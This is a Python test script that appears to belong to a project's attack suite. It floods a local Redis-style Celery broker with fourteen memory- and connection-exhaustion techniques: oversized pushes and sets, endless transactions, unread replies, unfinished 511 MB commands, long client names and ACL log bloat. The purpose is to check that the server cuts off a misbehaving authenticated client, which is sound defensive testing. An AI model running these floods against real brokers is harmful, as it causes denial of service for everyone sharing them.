"""One thief, one runner's token, direct connections to the broker: floods it until it is cut off.

    python tests/attacks/broker_flood.py KIND PORT ACCOUNT TOKEN PREFIX

A program of its own, so that it competes with nobody for an interpreter. It reconnects as long
as its token is accepted, and ends when it is not, printing what it got through by then.
"""

from __future__ import annotations

import itertools
import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

KIB, MIB = 1024, 1024 * 1024
CONNECTIONS = 4


class RefusedError(Exception):
    """The broker does not know the account any more."""


def command(*words: bytes) -> bytes:
    parts = [b"*%d\r\n" % len(words)]
    parts += [b"$%d\r\n%s\r\n" % (len(word), word) for word in words]
    return b"".join(parts)


class Thief:
    def __init__(self, kind: str, port: int, account: str, token: str, prefix: str) -> None:
        self._attack = announce if kind == ANNOUNCE else ATTACKS[kind]
        self._port = port
        self._sign_in = command(b"AUTH", account.encode(), token.encode())
        self._prefix = prefix.encode()
        self._begun = time.monotonic()
        self._sent = 0

    def run(self) -> None:
        threads = [threading.Thread(target=self._keep_on) for _ in range(CONNECTIONS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        seconds = time.monotonic() - self._begun
        print(json.dumps({"seconds": round(seconds, 2), "megabytes": round(self._sent / 1e6, 1)}))

    def _keep_on(self) -> None:
        while True:
            try:
                self._attack(self, self._prefix)
            except RefusedError:
                return
            except OSError:
                continue

    def connect(self) -> socket.socket:
        connection = socket.create_connection(("127.0.0.1", self._port), 30)
        connection.sendall(self._sign_in)
        answer = connection.recv(100)
        if answer.startswith(b"-WRONGPASS"):
            raise RefusedError
        if not answer.startswith(b"+OK"):
            raise OSError(answer)
        return connection

    def send(self, pieces: Iterator[bytes], *, reads: bool) -> None:
        with self.connect() as connection:
            if reads:
                threading.Thread(target=drain, args=(connection,), daemon=True).start()
            for piece in pieces:
                connection.sendall(piece)
                self._sent += len(piece)


def drain(connection: socket.socket) -> None:
    try:
        while connection.recv(MIB):
            pass
    except OSError:
        pass


def forever(piece: bytes) -> Iterator[bytes]:
    return itertools.repeat(piece)


def lpush(thief: Thief, prefix: bytes) -> None:
    key = prefix + b"x.reply.celery.pidbox"
    thief.send(forever(command(b"LPUSH", key, b"x" * MIB)), reads=True)


def sadd(thief: Thief, prefix: bytes) -> None:
    def pieces() -> Iterator[bytes]:
        for number in itertools.count(time.monotonic_ns()):
            members = [b"%d.%d" % (number, item) + b"m" * 80 for item in range(500)]
            yield command(b"SADD", prefix + b"_kombu.binding.x", *members)

    thief.send(pieces(), reads=True)


def many_keys(thief: Thief, prefix: bytes) -> None:
    def pieces() -> Iterator[bytes]:
        for number in itertools.count(time.monotonic_ns()):
            names = (b"%s%d.%d.reply.celery.pidbox" % (prefix, number, item) for item in range(100))
            yield b"".join(command(b"LPUSH", name, b"x") for name in names)

    thief.send(pieces(), reads=True)


def transaction(thief: Thief, prefix: bytes) -> None:
    push = command(b"LPUSH", prefix + b"x.reply.celery.pidbox", b"x" * MIB)
    thief.send(itertools.chain([command(b"MULTI")], forever(push)), reads=True)


def smembers(thief: Thief, prefix: bytes, *, reads: bool = False) -> None:
    """A set that is small enough to be let alone, asked for again and again."""
    key = prefix + b"_kombu.binding.x"
    fill = command(b"SADD", key, *(b"%d" % item + b"m" * 80 for item in range(3500)))
    ask = command(b"SMEMBERS", key) * 20
    thief.send(itertools.chain([fill], forever(ask)), reads=reads)


def smembers_read(thief: Thief, prefix: bytes) -> None:
    smembers(thief, prefix, reads=True)


def publish(thief: Thief, prefix: bytes) -> None:
    channel = prefix + b"/0.celeryev/worker.heartbeat"
    thief.send(forever(command(b"PUBLISH", channel, b"x" * 256 * KIB)), reads=True)


def publish_small(thief: Thief, prefix: bytes) -> None:
    channel = prefix + b"/0.celeryev/worker.heartbeat"
    thief.send(forever(command(b"PUBLISH", channel, b"{}") * 1000), reads=True)


def unread(thief: Thief, prefix: bytes) -> None:
    thief.send(forever(command(b"LLEN", prefix + b"tasks") * 1000), reads=False)


def unfinished(thief: Thief, prefix: bytes) -> None:
    """Commands of seven megabytes that stop before their end."""
    head = b"*9\r\n$5\r\nLPUSH\r\n" + b"$%d\r\n%s\r\n" % (MIB, b"x" * MIB) * 7
    held = [thief.connect() for _ in range(4)]
    for connection in held:
        connection.sendall(head)
    hold(held)


def announce(thief: Thief, prefix: bytes) -> None:
    """Half a gigabyte is set aside for a few bytes, unless the server bounds that."""
    key = prefix + b"x.reply.celery.pidbox"
    head = b"*3\r\n$5\r\nLPUSH\r\n$%d\r\n%s\r\n$%d\r\n" % (len(key), key, 511 * MIB)
    held = [thief.connect() for _ in range(4)]
    for connection in held:
        connection.sendall(head + b"x" * (7 * MIB))
    hold(held)


def long_names(thief: Thief, prefix: bytes) -> None:
    """HELLO needs no permission; a connection's name is in no figure, and in every list of them."""
    held = []
    for _ in range(10):
        connection = thief.connect()
        connection.sendall(command(b"HELLO", b"3", b"SETNAME", b"n" * (MIB - 1)))
        connection.recv(MIB)
        for attribute in (b"lib-name", b"lib-ver"):
            connection.sendall(command(b"CLIENT", b"SETINFO", attribute, b"i" * (MIB - 1)))
            connection.recv(MIB)
        held.append(connection)
    hold(held)


def refused_keys(thief: Thief, prefix: bytes) -> None:
    """Foreign keys of a megabyte from a client with a long name: ACL LOG keeps both whole."""

    def pieces() -> Iterator[bytes]:
        yield command(b"HELLO", b"3", b"SETNAME", b"n" * (MIB - 1))
        for number in itertools.count(time.monotonic_ns()):
            yield command(b"LLEN", b"%d" % number + b"k" * (MIB - 100))

    thief.send(pieces(), reads=True)


def hold(connections: list[socket.socket]) -> None:
    """Until the server ends one of them."""
    for connection in connections:
        connection.settimeout(120)
        connection.recv(1)
    raise OSError("ended by the server")


def many_arguments(thief: Thief, prefix: bytes) -> None:
    """As before, but each part is small enough for any limit on one of them."""
    head = b"*1000000\r\n" + b"$5\r\nLPUSH\r\n"
    thief.send(itertools.chain([head], forever(b"$%d\r\n%s\r\n" % (MIB, b"x" * MIB))), reads=True)


def connections(thief: Thief, prefix: bytes) -> None:
    hold([thief.connect() for _ in range(100)])


ATTACKS: dict[str, Callable[[Thief, bytes], None]] = {
    "LPUSH of 1 MB values": lpush,
    "SADD": sadd,
    "many keys": many_keys,
    "one endless transaction": transaction,
    "SMEMBERS, answers unread": smembers,
    "SMEMBERS, answers read": smembers_read,
    "PUBLISH of 256 KB": publish,
    "PUBLISH of 2 bytes": publish_small,
    "answers unread": unread,
    "unfinished commands": unfinished,
    "one endless command": many_arguments,
    "400 connections": connections,
    "connections with long names": long_names,
    "refused keys of 1 MB": refused_keys,
}  # Needs a server whose limits on clients are not set (docs/broker.md).
ANNOUNCE = "commands that announce 511 MB"

if __name__ == "__main__":
    Thief(sys.argv[1], int(sys.argv[2]), *sys.argv[3:]).run()
